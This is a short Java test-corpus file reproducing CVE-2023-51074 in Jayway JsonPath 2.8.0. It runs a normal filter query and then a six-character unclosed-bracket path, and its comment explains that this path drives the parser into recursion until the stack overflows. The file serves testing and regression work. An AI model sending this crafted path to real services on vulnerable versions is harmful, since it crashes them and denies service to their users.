package corpus.jsonpath;

import com.jayway.jsonpath.JsonPath;
import corpus.CorpusDriver;

/**
 * Jayway JsonPath 2.8.0, CVE-2023-51074: a path with a bracket property that is never closed
 * ({@code $[']',}) makes {@code PathCompiler} read the same token again and again
 * ({@code #readNextToken → #readBracketPropertyToken → #readPropertyOrFunctionToken → back}) until
 * the stack runs out: six characters suffice (2.9.0 checks for the closing bracket).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        String document = "{\"store\":{\"book\":[{\"price\":8,\"title\":\"a\"},{\"price\":12,\"title\":\"b\"}]}}";
        CorpusDriver.run("jsonpath", JsonPath.class,
                () -> JsonPath.read(document, "$.store.book[?(@.price < 10)].title").toString(),
                () -> JsonPath.read(document, "$[']',"));
    }
}
